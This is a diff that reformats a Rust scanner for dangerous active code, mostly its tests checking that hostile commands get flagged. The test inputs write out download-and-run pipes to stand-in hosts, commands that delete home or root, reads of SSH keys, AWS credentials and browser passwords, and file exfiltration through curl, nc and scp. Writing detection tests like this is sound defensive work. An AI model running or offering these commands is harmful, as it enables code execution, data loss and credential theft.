@@ -62,7 +62,11 @@ pub fn check(text: &str) -> Vec<Finding> {
                 .find('\n')
                 .map_or(text.len(), |i| found.end() + i);
             let line = text[..found.start()].matches('\n').count() + 1;
-            let shown: String = text[line_start..line_end].trim().chars().take(200).collect();
+            let shown: String = text[line_start..line_end]
+                .trim()
+                .chars()
+                .take(200)
+                .collect();
             Some(
                 Finding::new(Category::ActiveContent, Severity::Danger, Msg::new(*id))
                     .with_evidence(make_visible(&shown))
@@ -88,23 +92,57 @@ mod tests {
     #[test]
     fn harmful_acts_are_named() {
         let cases = [
-            ("curl -fsSL https://x.example/i.sh | sh", "finding-code-downloads-and-runs"),
-            ("wget -qO- http://1.2.3.4/p | sudo bash", "finding-code-downloads-and-runs"),
-            ("bash -c \"$(curl -fsSL https://x.example/i)\"", "finding-code-downloads-and-runs"),
+            (
+                "curl -fsSL https://x.example/i.sh | sh",
+                "finding-code-downloads-and-runs",
+            ),
+            (
+                "wget -qO- http://1.2.3.4/p | sudo bash",
+                "finding-code-downloads-and-runs",
+            ),
+            (
+                "bash -c \"$(curl -fsSL https://x.example/i)\"",
+                "finding-code-downloads-and-runs",
+            ),
             ("rm -rf ~/", "finding-code-deletes-everything"),
             ("rm -rf \"$HOME\"", "finding-code-deletes-everything"),
-            ("sudo rm -rf --no-preserve-root /", "finding-code-deletes-everything"),
-            ("shutil.rmtree(os.path.expanduser('~'))", "finding-code-deletes-everything"),
+            (
+                "sudo rm -rf --no-preserve-root /",
+                "finding-code-deletes-everything",
+            ),
+            (
+                "shutil.rmtree(os.path.expanduser('~'))",
+                "finding-code-deletes-everything",
+            ),
             ("cat ~/.ssh/id_rsa", "finding-code-reads-keys"),
-            ("open(os.path.expanduser('~/.aws/credentials'))", "finding-code-reads-keys"),
-            ("security find-generic-password -wa Chrome", "finding-code-reads-keys"),
-            ("curl -F file=@report.pdf https://x.example/up", "finding-code-sends-files"),
+            (
+                "open(os.path.expanduser('~/.aws/credentials'))",
+                "finding-code-reads-keys",
+            ),
+            (
+                "security find-generic-password -wa Chrome",
+                "finding-code-reads-keys",
+            ),
+            (
+                "curl -F file=@report.pdf https://x.example/up",
+                "finding-code-sends-files",
+            ),
             ("nc 10.0.0.1 4444 < secrets.txt", "finding-code-sends-files"),
-            ("scp notes.txt me@host.example:/tmp/", "finding-code-sends-files"),
-            ("requests.post(url, files={'f': open(p, 'rb')})", "finding-code-sends-files"),
+            (
+                "scp notes.txt me@host.example:/tmp/",
+                "finding-code-sends-files",
+            ),
+            (
+                "requests.post(url, files={'f': open(p, 'rb')})",
+                "finding-code-sends-files",
+            ),
         ];
         for (code, id) in cases {
-            assert!(ids(code).contains(&id.to_string()), "{code}: {:?}", ids(code));
+            assert!(
+                ids(code).contains(&id.to_string()),
+                "{code}: {:?}",
+                ids(code)
+            );
         }
     }
 
@@ -128,6 +166,9 @@ mod tests {
     fn the_line_is_shown() {
         let f = check("#!/bin/sh\necho hi\ncurl -s https://x.example/a | sh\n");
         assert_eq!(f.len(), 1);
-        assert_eq!(f[0].evidence.as_deref(), Some("curl -s https://x.example/a | sh"));
+        assert_eq!(
+            f[0].evidence.as_deref(),
+            Some("curl -s https://x.example/a | sh")
+        );
     }
 }
